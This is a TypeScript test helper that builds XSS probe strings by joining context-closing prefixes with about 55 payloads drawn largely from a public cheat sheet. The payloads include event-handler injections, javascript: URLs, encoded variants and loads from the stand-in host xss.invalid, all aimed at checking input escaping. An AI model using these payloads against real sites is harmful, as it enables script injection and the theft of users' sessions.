/** Beginnings of a text, which close what it was put into: an attribute, an element, a comment, a script. */
const endings = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '</noscript>',
];

/** Ways to run `RUN` in a browser, most from https://portswigger.net/web-security/cross-site-scripting/cheat-sheet. */
const bodies = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<<script>RUN//<</script>',
  '<script src=//xss.invalid/a.js></script>',
  '<img src=q onerror=RUN>',
  '<img src="q" onerror="RUN"',
  '<img/src=q/onerror=RUN>',
  '<image href=q onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<body onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src onerror=RUN></audio>',
  '<marquee onstart=RUN>',
  '<select><option><img src=q onerror=RUN>',
  '<template><script>RUN</script></template>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<iframe src=javascript:parent.RUN>',
  '<object data=javascript:RUN>',
  '<embed src=javascript:RUN>',
  '<a href=javascript:RUN>a</a>',
  '<form action=javascript:RUN><button>b',
  '<math><a xlink:href=javascript:RUN>m',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href=//xss.invalid/>',
  '<link rel=stylesheet href=//xss.invalid/a.css>',
  '<style>@import "//xss.invalid/b.css"</style>',
  '<img src=//xss.invalid/c.png>',
  '<p style=background:url(//xss.invalid/d.png)>p',
  '<noscript><p title="</noscript><img src=q onerror=RUN>">',
  '<svg></p><style><a id="</style><img src=q onerror=RUN>">',
  '<math><mtext><table><mglyph><style><img src=q onerror=RUN>',
  '<xss style=animation-name:x onanimationstart=RUN>',
  '<!--<script>RUN',
  '&lt;img src=q onerror=RUN&gt;',
  '&#60;img src=q onerror=RUN&#62;',
  '%3Cimg%20src=q%20onerror=RUN%3E',
  '\\u003cimg src=q onerror=RUN\\u003e',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '＜img src=q onerror=RUN＞',
  "{{constructor.constructor('RUN')()}}",
  `\${RUN}`,
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  '"-RUN-"',
  "'-RUN-'",
  '\\";RUN;//',
  '\u2028RUN//',
  '" onmouseover=RUN x="',
  "' onfocus=RUN autofocus x='",
  '`;RUN;`',
];

/** A hostile script that runs calls this function, or sends a request to this host. */
export const TELLTALE = '__xss';
export const TELLTALE_HOST = 'xss.invalid';

/**
 * Returns `count` texts that run in a browser unless they are shown as text, chosen evenly out of all combinations.
 * Each contains its number, so no two are the same. None is longer than 100 characters, to fit into most fields.
 */
export function hostileTexts(count: number): string[] {
  const all = bodies.flatMap((body) => endings.map((ending) => ending + body));
  return Array.from({ length: count }, (_, number) => {
    const text = all[Math.floor((number * all.length) / count) % all.length] as string;
    return text.replace('RUN', `${TELLTALE}(${number})`);
  });
}
